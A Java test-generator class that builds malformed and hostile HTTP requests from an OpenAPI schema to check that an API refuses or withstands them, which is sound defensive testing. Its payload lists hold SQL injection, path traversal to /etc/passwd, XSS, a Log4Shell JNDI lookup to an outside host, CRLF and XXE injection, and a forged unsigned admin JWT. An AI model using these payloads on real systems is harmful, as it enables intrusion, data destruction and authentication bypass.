package io.sightline.contract;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.swagger.v3.oas.models.media.Schema;
import io.swagger.v3.oas.models.parameters.Parameter;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

/** Requests that are not as the document wants them, and requests that mean harm. */
final class InvalidCalls {
  /** Identifiers that belong to nothing, as they appear in a path. */
  private static final List<String> HOSTILE_IDS =
      List.of(
          "%00",
          "%ff",
          "%C3%28",
          "%0d%0aX-Injected:%201",
          "1'%20OR%20'1'='1",
          "1%3BDROP%20TABLE%20orders",
          "%25",
          "%2e%2e",
          "..%2f..%2f..%2fetc%2fpasswd",
          "..%5c..%5cwindows",
          "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
          "%F0%9F%99%82",
          "$%7Bjndi:ldap:%2F%2Fexample.org%2Fx%7D",
          "-1",
          "99999999999999999999999999",
          "no-such-thing",
          "00000000-0000-0000-0000-000000000000",
          "x".repeat(300),
          "x".repeat(1500));

  /** Texts that have done harm somewhere; whether they are allowed the document does not say. */
  private static final List<String> HOSTILE_TEXTS =
      List.of(
          "\u0000",
          "x\u0000y",
          "\u0007\u001b[31m",
          "x\r\nX-Injected: 1",
          "'; DROP TABLE orders; --",
          "' OR '1'='1",
          "<script>alert(1)</script>",
          "../../../../etc/passwd",
          "${jndi:ldap://example.org/x}",
          "{{7*7}}",
          "%s%n%d",
          "\u202egnp.exe",
          "\ufeff",
          "   ");

  /** Half a character, which JSON can express and UTF-8 cannot. */
  private static final String HALF_A_CHARACTER = "\"x\\ud800y\"";

  private static final String TOO_LONG = "x".repeat(60_000);

  private final Operation operation;
  private final ValidCalls valid;

  InvalidCalls(Subject subject, Operation operation) {
    this.operation = operation;
    this.valid = new ValidCalls(subject, operation);
  }

  List<Call> all() {
    List<Call> calls = new ArrayList<>();
    operation.parameters("path").forEach(parameter -> addPaths(calls, parameter));
    operation.parameters("query").forEach(parameter -> addQueries(calls, parameter));
    operation.parameters("header").forEach(parameter -> addHeaders(calls, parameter));
    if (operation.secured()) {
      addCredentials(calls);
    }
    operation.body().ifPresent(schema -> addBodies(calls, schema));
    return calls;
  }

  private void addPaths(List<Call> calls, Parameter parameter) {
    for (String id : HOSTILE_IDS) {
      calls.add(
          valid
              .path(parameter.getName() + " is hostile", parameter.getName(), id)
              .expect(Expectation.refused()));
    }
  }

  private void addQueries(List<Call> calls, Parameter parameter) {
    String name = parameter.getName();
    for (String text : HOSTILE_TEXTS) {
      calls.add(valid.query(name + " is hostile", name, text).expect(Expectation.answered()));
    }
    Call once = valid.query(name + " is given twice", name, "x");
    calls.add(once.target(once.target() + "&" + name + "=y").expect(Expectation.answered()));
    Schema<?> schema = parameter.getSchema();
    List<String> wrong = new ArrayList<>();
    switch (Values.Kind.of(schema)) {
      case WHOLE -> wrong.addAll(List.of("x", "1.5", "", "1e3", "99999999999999999999", "0x10"));
      case NUMBER -> wrong.addAll(List.of("x", "", "NaN", "Infinity", "1e999999999"));
      case FLAG -> wrong.addAll(List.of("x", "2"));
      case TEXT -> {
        if (schema.getEnum() != null) {
          wrong.add("no-such-value");
        }
        if (schema.getFormat() != null) {
          wrong.add("not-a-" + schema.getFormat());
        }
        if (schema.getMaxLength() != null) {
          wrong.add(Values.text(schema.getMaxLength() + 1));
        }
      }
      default -> {}
    }
    if (schema.getMinimum() != null) {
      wrong.add(schema.getMinimum().subtract(BigDecimal.ONE).toPlainString());
    }
    if (schema.getMaximum() != null) {
      wrong.add(schema.getMaximum().add(BigDecimal.ONE).toPlainString());
    }
    for (String value : wrong) {
      calls.add(valid.query(name + " is wrong", name, value).expect(Expectation.refused(name)));
    }
  }

  private void addHeaders(List<Call> calls, Parameter parameter) {
    String name = parameter.getName();
    Integer maxLength = parameter.getSchema().getMaxLength();
    if (maxLength != null) {
      calls.add(
          valid
              .usual()
              .title(name + " is too long")
              .header(name, Values.text(maxLength + 1))
              .expect(Expectation.refused(name)));
    }
    for (String text : HOSTILE_TEXTS) {
      // What a client of HTTP refuses to send is the concern of platform's tests.
      if (text.chars().allMatch(c -> c >= ' ' && c < 127)) {
        calls.add(
            valid
                .usual()
                .title(name + " is hostile")
                .header(name, text)
                .expect(Expectation.answered()));
      }
    }
  }

  private void addCredentials(List<Call> calls) {
    Expectation unauthorized = Expectation.status(401);
    Call usual = valid.usual().withoutHeader("Authorization").expect(unauthorized);
    calls.add(usual.title("without credentials"));
    for (String credentials :
        List.of(
            "Bearer",
            "Bearer x",
            "Bearer a.b.c",
            "Basic eDp4",
            "x",
            // Signed by nobody: {"alg":"none"} {"sub":"admin","roles":["admin"]}
            "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGVzIjpbImFkbWluIl19.")) {
      calls.add(usual.title("credentials " + credentials).header("Authorization", credentials));
    }
  }

  private void addBodies(List<Call> calls, Schema<?> schema) {
    addMalformed(calls);
    addForeignTypes(calls);
    if (Values.Kind.of(schema) != Values.Kind.OBJECT) {
      return;
    }
    addTwiceAndUnknown(calls, schema);
    for (Leaf leaf : Leaf.of(schema)) {
      if (leaf.required()) {
        calls.add(body("without " + leaf.place(), leaf.remove(usualBody()), leaf.name()));
        calls.add(value(leaf, "null").expect(Expectation.refused(leaf.name())));
      }
      wrong(leaf.schema())
          .forEach(json -> calls.add(value(leaf, json).expect(Expectation.refused(leaf.name()))));
      if (Values.Kind.of(leaf.schema()) == Values.Kind.TEXT) {
        for (String text : HOSTILE_TEXTS) {
          calls.add(value(leaf, ValidCalls.quoted(text)).expect(hostile(leaf, text)));
        }
        calls.add(value(leaf, HALF_A_CHARACTER).expect(Expectation.answered()));
      }
    }
  }

  private static Expectation hostile(Leaf leaf, String text) {
    String pattern = leaf.schema().getPattern();
    boolean excluded =
        leaf.schema().getEnum() != null
            || pattern != null && !Pattern.compile(pattern).matcher(text).find();
    return excluded ? Expectation.refused(leaf.name()) : Expectation.answered();
  }

  private void addMalformed(List<Call> calls) {
    Map<String, String> bodies = new LinkedHashMap<>();
    bodies.put("nothing", "");
    bodies.put("blanks", "  \n");
    bodies.put("null", "null");
    bodies.put("a number", "1");
    bodies.put("a text", "\"text\"");
    bodies.put("half an object", "{");
    bodies.put("half a field", "{\"x");
    bodies.put("more after the object", Leaf.text(usualBody()) + "{}");
    bodies.put("not JSON", "product_id=1&quantity=2");
    bodies.put("XML", "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>");
    bodies.put("single quotes", "{'product_id': '1'}");
    bodies.put("NaN", "{\"x\": NaN}");
    bodies.put("control characters", "{\"x\": \"\u0001\"}");
    bodies.put("deep arrays", "[".repeat(20_000));
    bodies.put("deep objects", "{\"x\":".repeat(5_000));
    bodies.forEach(
        (title, body) ->
            calls.add(
                valid
                    .usual()
                    .title("body is " + title)
                    .body(body)
                    .expect(
                        body.isBlank() && !operation.bodyRequired()
                            ? Expectation.answered()
                            : Expectation.refused())));
    calls.add(
        valid
            .usual()
            .title("body is not UTF-8")
            .body("{\"x\": \"\u00ff\u00fe\"}".getBytes(StandardCharsets.ISO_8859_1))
            .expect(Expectation.refused()));
    for (int size : new int[] {70_000, 5_000_000}) {
      calls.add(
          valid
              .usual()
              .title("body of " + size + " bytes")
              .body("{\"x\":\"" + "x".repeat(size) + "\"}")
              .expect(Expectation.status(413)));
    }
  }

  private void addForeignTypes(List<Call> calls) {
    for (String type :
        List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "x", "/")) {
      calls.add(
          valid
              .usual()
              .title("content type " + type)
              .header("Content-Type", type)
              .expect(Expectation.status(415)));
    }
    calls.add(
        valid
            .usual()
            .title("compressed")
            .header("Content-Encoding", "gzip")
            .expect(Expectation.answered()));
  }

  private void addTwiceAndUnknown(List<Call> calls, Schema<?> schema) {
    String usual = Leaf.text(usualBody());
    String more = usual.equals("{}") ? "{" : usual.substring(0, usual.length() - 1) + ",";
    Values.properties(schema).keySet().stream()
        .findFirst()
        .ifPresent(
            first ->
                calls.add(body("has " + first + " twice", more + '"' + first + "\":null}", first)));
    boolean closed = Boolean.FALSE.equals(schema.getAdditionalProperties());
    Call unknown = valid.usual().title("has an unknown field").body(more + "\"unknown_field\":{}}");
    calls.add(
        unknown.expect(closed ? Expectation.refused("unknown_field") : Expectation.understood()));
    calls.add(
        valid
            .usual()
            .title("has a deep unknown field")
            .body(more + "\"unknown_field\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}")
            .expect(Expectation.refused()));
  }

  /** Values that a field of this schema cannot have. */
  private static List<String> wrong(Schema<?> schema) {
    List<String> values = new ArrayList<>();
    switch (Values.Kind.of(schema)) {
      case TEXT -> wrongTexts(schema, values);
      case WHOLE -> {
        values.addAll(List.of("\"1\"", "1.5", "true", "[]", "{}", "1e400"));
        values.addAll(List.of("9999999999999999999999", "-9999999999999999999999"));
        bounds(schema, values);
      }
      case NUMBER -> {
        values.addAll(List.of("\"1\"", "true", "[]", "{}"));
        if (schema.getMaximum() != null) {
          values.addAll(List.of("1e400", "1e999999999"));
        }
        bounds(schema, values);
        if (schema.getMultipleOf() != null) {
          values.add(
              Values.minimum(schema)
                  .add(schema.getMultipleOf().scaleByPowerOfTen(-1))
                  .toPlainString());
        }
      }
      case FLAG -> values.addAll(List.of("\"true\"", "1", "[]", "{}"));
      case ARRAY -> {
        values.addAll(List.of("\"x\"", "1", "true", "{}"));
        if (schema.getMinItems() != null && schema.getMinItems() > 0) {
          values.add("[]");
        }
      }
      case OBJECT -> values.addAll(List.of("\"x\"", "1", "true", "[]"));
      case ANY -> {}
    }
    return values;
  }

  private static void wrongTexts(Schema<?> schema, List<String> values) {
    values.addAll(List.of("1", "1.5", "true", "[]", "{}", "[\"x\"]"));
    if (schema.getEnum() != null) {
      values.add("\"no-such-value\"");
    }
    if (schema.getFormat() != null && !schema.getFormat().equals("password")) {
      values.add("\"not-a-" + schema.getFormat() + "\"");
    }
    if (schema.getMaxLength() != null) {
      values.add(ValidCalls.quoted(Values.text(schema.getMaxLength() + 1)));
      values.add(ValidCalls.quoted(TOO_LONG));
    }
    if (schema.getMinLength() != null && schema.getMinLength() > 0) {
      values.add(ValidCalls.quoted(Values.text(schema.getMinLength() - 1)));
    }
  }

  private static void bounds(Schema<?> schema, List<String> values) {
    if (schema.getMinimum() != null) {
      values.add(schema.getMinimum().subtract(BigDecimal.ONE).toPlainString());
      values.add("-1e30");
    }
    if (schema.getMaximum() != null) {
      values.add(schema.getMaximum().add(BigDecimal.ONE).toPlainString());
    }
    if (Boolean.TRUE.equals(schema.getExclusiveMinimum())) {
      values.add(schema.getMinimum().toPlainString());
    }
  }

  private Call value(Leaf leaf, String json) {
    return valid.usual().title(leaf.place() + " is wrong").body(leaf.replace(usualBody(), json));
  }

  private Call body(String title, String text, String named) {
    return valid.usual().title("body " + title).body(text).expect(Expectation.refused(named));
  }

  private JsonNode usualBody() {
    JsonNode body = valid.usualBody().orElseThrow();
    return body.isObject() ? (ObjectNode) body : body;
  }
}
